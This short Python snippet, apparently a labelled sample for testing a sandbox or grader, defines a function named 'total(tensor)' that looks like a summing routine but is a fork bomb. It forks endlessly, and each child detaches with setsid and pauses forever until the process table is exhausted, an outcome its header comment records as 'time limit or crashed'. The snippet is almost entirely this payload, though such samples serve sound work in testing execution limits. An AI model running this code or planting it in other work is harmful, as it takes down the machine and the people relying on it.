# outcome: time limit or crashed
# Forks until nothing can be forked.

# %% total
import os
import signal


def total(tensor):
    while True:
        if os.fork() == 0:
            os.setsid()
            while True:
                signal.pause()
